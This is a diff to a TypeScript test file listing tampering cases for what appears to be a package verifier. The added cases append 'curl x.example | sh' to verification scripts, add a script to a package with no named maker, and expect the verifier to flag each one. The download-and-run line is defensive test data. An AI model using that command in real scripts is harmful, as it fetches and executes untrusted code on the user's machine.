@@ -205,6 +205,23 @@ const FILE_ATTACKS: readonly Attack[] = [
     },
     code: 'ALTERED',
   },
+  ...['data/verify.sh', 'data/verify.ps1'].map(
+    (path): Attack => ({
+      does: `has ${path} run a download`,
+      change: (files) => files.set(path, `${files.get(path)}curl x.example | sh\n`),
+      code: 'SCRIPT_DISAGREES',
+      path,
+    }),
+  ),
+  {
+    does: 'adds a script to a package that names no maker',
+    change: (files) => {
+      changeJson(files, INDEX, (index) => void delete (index.export as Members).maker);
+      files.set('data/verify.sh', 'echo Intact');
+    },
+    code: 'SCRIPT_DISAGREES',
+    path: 'data/verify.sh',
+  },
   ...['data/run.exe', 'data/Look.lnk', 'data/filing/index.html', 'data/more/note.PS1'].map(
     (path): Attack => ({
       does: `adds ${path}`,
